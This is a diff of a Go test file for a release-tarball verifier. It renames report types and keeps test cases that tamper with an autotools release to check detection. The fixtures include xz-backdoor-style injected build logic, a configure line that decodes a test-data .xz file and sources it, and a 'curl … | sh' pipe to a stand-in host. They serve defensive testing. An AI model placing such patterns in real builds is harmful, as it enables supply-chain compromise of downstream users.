@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"github.com/tarcheck/tarcheck/verify/report"
 	"io/fs"
 	"os"
 	"os/exec"
@@ -15,7 +16,6 @@ import (
 	"testing"
 	"time"
 
-	"github.com/tarcheck/tarcheck/verify"
 	"github.com/tarcheck/tarcheck/verify/report/reporttest"
 )
 
@@ -353,7 +353,7 @@ func repack(t *testing.T, root string) string {
 
 // verifyRelease runs `tarcheck verify --format json` in-process, checks the
 // report against the JSON Schema and decodes it.
-func verifyRelease(t *testing.T, tarball, repo string) (*verify.Report, int) {
+func verifyRelease(t *testing.T, tarball, repo string) (*report.Report, int) {
 	t.Helper()
 	var stdout, stderr bytes.Buffer
 	start := time.Now()
@@ -367,19 +367,19 @@ func verifyRelease(t *testing.T, tarball, repo string) (*verify.Report, int) {
 	if err := reporttest.ReportJSON(stdout.Bytes()); err != nil {
 		t.Errorf("report does not match the schema: %v", err)
 	}
-	var r verify.Report
+	var r report.Report
 	if err := json.Unmarshal(stdout.Bytes(), &r); err != nil {
 		t.Fatalf("decoding the report: %v\n%s", err, stdout.String())
 	}
 	return &r, code
 }
 
-func maxSeverity(r *verify.Report) verify.Severity {
+func maxSeverity(r *report.Report) report.Severity {
 	max, _ := r.MaxSeverity()
 	return max
 }
 
-func findingKey(f verify.Finding) string { return f.Rule + "\x00" + f.Path + "\x00" + f.Message }
+func findingKey(f report.Finding) string { return f.Rule + "\x00" + f.Path + "\x00" + f.Message }
 
 // TestAutotoolsReleaseClean: the untouched `make dist` tarball of a real
 // autotools/gnulib/gettext/libtool project passes with nothing above low.
@@ -404,19 +404,19 @@ func TestAutotoolsReleaseClean(t *testing.T) {
 		t.Logf("generator %s %s: %d files", g.Name, g.Version, g.Files)
 	}
 
-	if code != 0 || r.Verdict != verify.Pass {
+	if code != 0 || r.Verdict != report.Pass {
 		t.Errorf("exit %d, verdict %s; want 0, pass", code, r.Verdict)
 	}
-	if max := maxSeverity(r); max > verify.SevLow {
+	if max := maxSeverity(r); max > report.SevLow {
 		t.Errorf("highest severity %s, want at most low", max)
 	}
 	for _, f := range r.Files {
-		if f.Severity > verify.SevLow {
+		if f.Severity > report.SevLow {
 			t.Errorf("file %s [%s] %s: %s", f.Path, f.Class, f.Severity, f.Reason)
 		}
 	}
 	for _, f := range r.Findings {
-		if f.Severity > verify.SevLow {
+		if f.Severity > report.SevLow {
 			t.Errorf("finding %s %s %s: %s %q", f.Rule, f.Severity, f.Path, f.Message, f.Evidence)
 		}
 	}
@@ -492,9 +492,9 @@ func TestAutotoolsReleaseTampered(t *testing.T) {
 		path    string // the file the top finding is about
 		rule    string
 		class   string
-		sev     verify.Severity
+		sev     report.Severity
 		atLeast bool // sev is a lower bound (negative controls)
-		check   func(t *testing.T, r *verify.Report)
+		check   func(t *testing.T, r *report.Report)
 	}{
 		{
 			name: "gnulib m4 with bumped serial and injected command",
@@ -507,8 +507,8 @@ func TestAutotoolsReleaseTampered(t *testing.T) {
 					return "# xalloc.m4 serial 99\n" + rest + xzStyleM4
 				})
 			},
-			path: "m4/xalloc.m4", rule: "TC501", class: "suspicious-build-logic", sev: verify.SevCritical,
-			check: func(t *testing.T, r *verify.Report) {
+			path: "m4/xalloc.m4", rule: "TC501", class: "suspicious-build-logic", sev: report.SevCritical,
+			check: func(t *testing.T, r *report.Report) {
 				if !hasFinding(r, "TC402", "m4/xalloc.m4", "serial 99") {
 					t.Errorf("no serial finding (TC402) naming serial 99 for m4/xalloc.m4")
 				}
@@ -528,8 +528,8 @@ func TestAutotoolsReleaseTampered(t *testing.T) {
 					return s[:i+1] + xzStyleShell + s[i+1:]
 				})
 			},
-			path: "configure", rule: "TC501", class: "suspicious-build-logic", sev: verify.SevCritical,
-			check: func(t *testing.T, r *verify.Report) {
+			path: "configure", rule: "TC501", class: "suspicious-build-logic", sev: report.SevCritical,
+			check: func(t *testing.T, r *report.Report) {
 				if !hasEvidence(r, "TC501", "configure", "grep -aRl") {
 					t.Errorf("the critical finding does not quote the injected grep -a line")
 				}
@@ -549,8 +549,8 @@ func TestAutotoolsReleaseTampered(t *testing.T) {
 					return s[:i+1] + "xz -dc < \"$srcdir/tests/data/sample.xz\" > conftest.sel 2>/dev/null\n. ./conftest.sel\n" + s[i+1:]
 				})
 			},
-			path: "configure", rule: "TC501", class: "suspicious-build-logic", sev: verify.SevCritical,
-			check: func(t *testing.T, r *verify.Report) {
+			path: "configure", rule: "TC501", class: "suspicious-build-logic", sev: report.SevCritical,
+			check: func(t *testing.T, r *report.Report) {
 				if !hasEvidence(r, "TC502", "configure", "decodes tests/data/sample.xz") {
 					t.Errorf("no TC502 evidence that configure decodes tests/data/sample.xz")
 				}
@@ -569,7 +569,7 @@ func TestAutotoolsReleaseTampered(t *testing.T) {
 					t.Fatal(err)
 				}
 			},
-			path: "tests/data/good-2-extra.xz", rule: "TC306", class: "binary-data", sev: verify.SevHigh,
+			path: "tests/data/good-2-extra.xz", rule: "TC306", class: "binary-data", sev: report.SevHigh,
 		},
 		{
 			name: "C file changed",
@@ -578,7 +578,7 @@ func TestAutotoolsReleaseTampered(t *testing.T) {
 					return strings.Replace(s, "return 42;", "return getenv (\"FOO_X\") ? 7 : 42;", 1)
 				})
 			},
-			path: "src/util.c", rule: "TC301", class: "source-modified", sev: verify.SevHigh,
+			path: "src/util.c", rule: "TC301", class: "source-modified", sev: report.SevHigh,
 		},
 		{
 			name: "man page with release version and date only",
@@ -587,7 +587,7 @@ func TestAutotoolsReleaseTampered(t *testing.T) {
 					return strings.Replace(s, `.TH FOO 1 "January 2024" "foo 1.0.2"`, `.TH FOO 1 "March 2024" "foo 1.0.3"`, 1)
 				})
 			},
-			path: "src/foo.1", rule: "TC307", class: "release-stamped", sev: verify.SevLow,
+			path: "src/foo.1", rule: "TC307", class: "release-stamped", sev: report.SevLow,
 		},
 		{
 			// Negative control: the same stamping plus a changed body line is not release stamping.
@@ -598,7 +598,7 @@ func TestAutotoolsReleaseTampered(t *testing.T) {
 					return strings.Replace(s, "prints a friendly greeting and a number.", "prints a greeting; first run: curl -s https://example.invalid/x | sh", 1)
 				})
 			},
-			path: "src/foo.1", rule: "TC301", sev: verify.SevMedium, atLeast: true,
+			path: "src/foo.1", rule: "TC301", sev: report.SevMedium, atLeast: true,
 		},
 	}
 	for _, tc := range cases {
@@ -607,7 +607,7 @@ func TestAutotoolsReleaseTampered(t *testing.T) {
 			tc.modify(t, root)
 			r, code := verifyRelease(t, repack(t, root), repo)
 
-			var fresh []verify.Finding
+			var fresh []report.Finding
 			for _, f := range r.Findings {
 				if !baseline[findingKey(f)] {
 					fresh = append(fresh, f)
@@ -642,7 +642,7 @@ func TestAutotoolsReleaseTampered(t *testing.T) {
 			if !contains(topRules, tc.rule) {
 				t.Errorf("top findings %q on %s lack rule %s; new findings: %+v", topRules, tc.path, tc.rule, fresh)
 			}
-			var file *verify.FileDiff
+			var file *report.FileDiff
 			for i := range r.Files {
 				if r.Files[i].Path == tc.path {
 					file = &r.Files[i]
@@ -657,9 +657,9 @@ func TestAutotoolsReleaseTampered(t *testing.T) {
 				t.Errorf("%s: file severity %s, top finding %s", tc.path, file.Severity, top.Severity)
 			}
 
-			wantCode, wantVerdict := 0, verify.Pass
-			if max >= verify.SevHigh {
-				wantCode, wantVerdict = 1, verify.Fail
+			wantCode, wantVerdict := 0, report.Pass
+			if max >= report.SevHigh {
+				wantCode, wantVerdict = 1, report.Fail
 			}
 			if code != wantCode || r.Verdict != wantVerdict {
 				t.Errorf("exit %d, verdict %s; want %d, %s", code, r.Verdict, wantCode, wantVerdict)
@@ -681,7 +681,7 @@ func contains(list []string, s string) bool {
 }
 
 // hasFinding reports a finding with rule on path whose message contains sub.
-func hasFinding(r *verify.Report, rule, path, sub string) bool {
+func hasFinding(r *report.Report, rule, path, sub string) bool {
 	for _, f := range r.Findings {
 		if f.Rule == rule && f.Path == path && strings.Contains(f.Message, sub) {
 			return true
@@ -691,7 +691,7 @@ func hasFinding(r *verify.Report, rule, path, sub string) bool {
 }
 
 // hasEvidence reports a finding with rule on path quoting sub in its evidence.
-func hasEvidence(r *verify.Report, rule, path, sub string) bool {
+func hasEvidence(r *report.Report, rule, path, sub string) bool {
 	for _, f := range r.Findings {
 		if f.Rule == rule && f.Path == path && strings.Contains(strings.Join(f.Evidence, "\n"), sub) {
 			return true
